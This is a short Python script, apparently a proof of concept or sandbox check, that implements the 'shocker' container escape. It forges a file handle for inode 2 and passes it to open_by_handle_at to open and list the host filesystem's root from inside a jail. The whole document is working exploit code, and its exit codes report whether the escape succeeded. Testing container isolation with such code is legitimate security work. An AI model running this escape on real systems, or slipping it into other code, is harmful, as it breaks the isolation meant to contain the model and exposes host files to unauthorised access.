# The "shocker" escape: open_by_handle_at(2) with a handle for inode 2
# (an ext4 root) through a mount of the jail's filesystem opens the
# filesystem's own root, outside the jail.  Exit 0 and print what it
# lists if it got out; 1 if refused; 2 if handles are not supported.
import ctypes, os, struct, sys
libc = ctypes.CDLL(None, use_errno=True)
# a handle for the jail's /etc/motd, then the same with the inode of the
# filesystem's root (ext4: inode 2, generation 0): the host's /.
buf = ctypes.create_string_buffer(struct.pack("II", 128, 0) + b"\0" * 128)
mid = ctypes.c_int()
if libc.name_to_handle_at(-100, b"/etc/motd", buf, ctypes.byref(mid), 0) != 0:
    print("name_to_handle_at", os.strerror(ctypes.get_errno())); sys.exit(2)
nbytes, htype = struct.unpack("II", buf.raw[:8])
h = struct.pack("IIII", 8, htype, 2, 0)
fd = os.open("/", os.O_RDONLY)
r = libc.open_by_handle_at(fd, ctypes.create_string_buffer(h), os.O_RDONLY | os.O_DIRECTORY)
if r < 0:
    print("open_by_handle_at:", os.strerror(ctypes.get_errno())); sys.exit(1)
print("escaped:", sorted(os.listdir(r))[:8]); sys.exit(0)
